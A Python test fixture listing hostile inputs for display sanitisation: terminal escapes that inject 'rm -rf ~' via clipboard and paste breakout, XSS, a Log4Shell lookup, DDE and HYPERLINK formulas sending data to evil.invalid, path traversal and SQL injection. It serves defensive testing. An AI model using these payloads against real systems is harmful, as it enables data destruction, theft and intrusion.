"""What hostile callers say: by name, each between two letters that must be seen wherever it is shown."""

from __future__ import annotations

import unicodedata
from typing import Final

ESCAPES: Final = {
    "csi-clear": "\x1b[2J\x1b[H",
    "csi-colour": "\x1b[31;5m",
    "csi-8bit": "\x9b2J\x9b31m",
    "csi-modes": "\x1b[?1049l\x1b[?25l\x1b[?1000h\x1b[20h",
    "csi-report": "\x1b[6n\x1b[c\x1b[>0q",
    "osc52": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "osc52-st": "\x1b]52;c;cm0gLXJmIH4=\x1b\\",
    "osc-8bit": "\x9d52;c;cm0gLXJmIH4=\x9c",
    "osc8-link": "\x1b]8;;https://evil.invalid/\x1b\\点我\x1b]8;;\x1b\\",
    "title": "\x1b]0;PWNED\x07\x1b]2;PWNED\x1b\\",
    "title-report": "\x1b[21t",
    "dcs-decrqss": '\x1bP$q"p\x1b\\',
    "dcs-8bit": "\x90$qm\x9c",
    "dcs-tmux": "\x1bPtmux;\x1b\x1b]52;c;cHdu\x07\x1b\\",
    "apc": "\x1b_Gf=100,a=T;AAAA\x1b\\",
    "apc-8bit": "\x9fGf=100;AAAA\x9c",
    "pm-sos": "\x1b^secret\x1b\\\x1bXsos\x1b\\",
    "paste-end": "\x1b[201~\rrm -rf ~\r",
    "reset": "\x1bc\x1b#8\x1b(0",
    "half": "\x1b",
    "half-csi": "\x1b[",
}
CONTROLS: Final = {
    "nul": "\x00",
    "c0": "".join(map(chr, (*range(1, 9), *range(14, 27), *range(28, 32)))),
    "bell": "\x07\x07",
    "backspace": "abc\b\b\bxyz",
    "delete": "\x7f",
    "c1": "".join(map(chr, range(0x80, 0xA0))),
    "shift-out": "\x0elqqk\x0f",
    "crlf": "一\r\n二",
    "cr": "一\r二",
    "vt-ff": "一\x0b二\x0c三",
    "nel-ls-ps": "一\x85二\u2028三\u2029四",
    "tabs": "一\t二\t\t三",
}
DIRECTION: Final = {
    "rlo": "\u202egnp.exe",
    "lro": "\u202dabc\u202c",
    "embeddings": "\u202a\u202babc\u202c\u202c",
    "isolates": "\u2066\u2067\u2068abc\u2069",
    "marks": "\u200e\u200f\u061c",
    "deprecated": "\u206a\u206b\u206c\u206d\u206e\u206f",
}
UNSEEN: Final = {
    "zwsp": "王\u200b芳",
    "joiners": "王\u200d\u200c芳",
    "bom": "\ufeff王\ufeff芳",
    "word-joiner": "王\u2060\u2061\u2064芳",
    "soft-hyphen": "王\u00ad芳",
    "grapheme-joiner": "王\u034f芳",
    "fillers": "王\u115f\u1160\u3164\uffa0芳",
    "mongolian": "王\u180b\u180e芳",
    "annotation": "王\ufff9旁注\ufffa\ufffb芳",
    "tags": "王" + "".join(chr(0xE0000 + ord(one)) for one in "secret") + "\U000e007f芳",
    "selectors": "王" + "\ufe0f" * 40 + "\U000e0101" * 40 + "芳",
    "musical": "王\U0001d173\U0001d17a芳",
}
WIDTHS: Final = {
    "zalgo": "z" + "\u0301\u0327\u0489\u20dd" * 60,
    "pile-on-chinese": "王" + "\u0336" * 200,
    "mark-on-nothing": "\n\u0336\u0301芳",
    "thai-pile": "ส" + "\u0e47" * 80,
    "wide": "ＷＩＤＥ全角　空格",
    "ambiguous": "“”‘’…—·×①②°±αβ┌─┐",
    "emoji": "😡🙏🏽",
    "emoji-family": "👨\u200d👩\u200d👧\u200d👦",
    "emoji-heart": "❤\ufe0f\u200d🔥",
    "keycap": "1\ufe0f\u20e3",
    "flags": "🇨🇳🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "rare-name": "葛\U000e0100城",
    "jamo": "\u1112\u1161\u11ab\u1100\u1161",
    "arabic": "\u0645\u062d\u0645\u062f 123",
    "persian": "\u0646\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "hindi": "\u0915\u094d\u200d\u0937",
    "private": "\ue000\U000f0000",
    "noncharacters": "\ufffe\uffff\ufdd0",
    "plane": "𠮷𝔘𐍈",
}
MARKUP: Final = {
    "rich": "[b]x[/] [red on blue]y[/] [/]",
    "action": "[@click=app.quit]退出[/]",
    "link": "[link=https://evil.invalid]x[/link] [@click='app.bell']b[/]",
    "brackets": "[[[]]]\\[x]",
    "script": "<script>document.title='PWNED';document.body.dataset.pwned='1'</script>",
    "onerror": "<img src=x onerror=\"document.title='PWNED'\">",
    "svg": "<svg onload=\"document.title='PWNED'\"><a xlink:href=javascript:document.title='PWNED'>x</a></svg>",
    "attribute": "\" onmouseover=\"document.title='PWNED'\" x='",
    "close": "</td></table></main></body><h1>PWNED</h1><!--",
    "entity": "&lt;b&gt; &#60;script&#62; &amp;",
    "style": "</style><style>body{display:none}</style>",
    "cdata": "]]><![CDATA[<script>1</script>",
    "markdown": "# x\n* [y](javascript:1) ![z](https://evil.invalid/p.png) `q` | a | b |",
    "template": "${jndi:ldap://evil.invalid/x} {{7*7}} %s %(x)s {0} {name.__class__}",
}
FORMULAS: Final = {
    "equals": "=1+1",
    "plus": "+86",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab-formula": "\t=1+1",
    "cr-formula": "\r=1+1",
    "lf-formula": "\n=1+1",
    "wide-equals": "＝1+1",
    "wide-plus": "＋1",
    "wide-minus": "－1",
    "wide-at": "＠SUM(A1)",
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://evil.invalid?"&A1,"x")',
    "quotes": '"=1+1","=2"',
    "apostrophe": "'=1+1",
    "semicolon": "x;=1+1;y",
    "hidden-formula": "\u200b=1+1",
    "mark-formula": "\u202e\ufeff=1+1",
    "space-formula": " \u3000=1+1",
    "inner-lines": "x\n=1+1\r\n@x\ty",
}
PATHS: Final = {
    "parent": "../../../../etc/passwd",
    "parent-back": "..\\..\\evil",
    "absolute": "/etc/cron.d/evil",
    "home": "~/evil",
    "device": "CON",
    "stream": "a.txt::$DATA",
    "dots": "evil. . .",
    "dot": ".",
    "dot-dot": "..",
    "long": "长" * 400,
    "percent": "%2e%2e%2fevil",
    "nul-name": "evil\x00.txt",
    "line": "a\nb",
    "option": "--force",
    "glob": "*",
}
SQL: Final = {
    "drop": "'; DROP TABLE tickets; --",
    "union": "1' UNION SELECT token FROM users --",
    "like": "%_%' OR '1'='1",
}
LONG: Final = {"long-word": "w" * 39_000, "long-line": "很长 " * 13_000, "long-marks": "z" + "\u0301" * 39_000}
"""As long as a text may be; a million letters are refused at the doors, which is tried where they are."""

GROUPS: Final = {
    "escapes": ESCAPES,
    "controls": CONTROLS,
    "direction": DIRECTION,
    "unseen": UNSEEN,
    "widths": WIDTHS,
    "markup": MARKUP,
    "formulas": FORMULAS,
    "paths": PATHS,
    "sql": SQL,
}
CORPUS: Final = {name: text for group in GROUPS.values() for name, text in group.items()}
FIRST, LAST = "甲", "乙"

# Unicode's Default_Ignorable_Code_Point and the rest of what nobody sees, told once more and in another way than the product
# tells it: a test that asked the product would agree with every mistake of its.
_FORMATS: Final = {"Cc", "Cf", "Cs", "Zl", "Zp"}
_OTHERS: Final = {
    0x034F,
    0x115F,
    0x1160,
    0x17B4,
    0x17B5,
    0x3164,
    0xFFA0,
    *range(0x180B, 0x1810),
    *range(0xFE00, 0xFE10),
}


def said(name: str) -> str:
    """The text between its two letters."""
    return f"{FIRST}{CORPUS[name]}{LAST}"


def acts(character: str) -> bool:
    """Whether a terminal could obey it, or nobody can see it."""
    code = ord(character)
    return (
        unicodedata.category(character) in _FORMATS
        or code in _OTHERS
        or 0xE0000 <= code <= 0xE0FFF
        or 0xFDD0 <= code <= 0xFDEF
        or code & 0xFFFE == 0xFFFE
    )


def found(text: str, *, lines: str = "") -> list[str]:
    """What is left in ``text`` that acts or cannot be seen, as code points; the characters of ``lines`` may be there."""
    return sorted({f"U+{ord(one):04X}" for one in text if one not in lines and acts(one)})


def cells(text: str) -> int:
    """How many cells a terminal gives it: UAX #11, and what combines or joins as a vowel of Hangul has none."""
    return sum(
        0
        if unicodedata.category(one) in ("Mn", "Me") or 0x1160 <= ord(one) <= 0x11FF
        else 2
        if unicodedata.east_asian_width(one) in "WF"
        else 1
        for one in text
    )
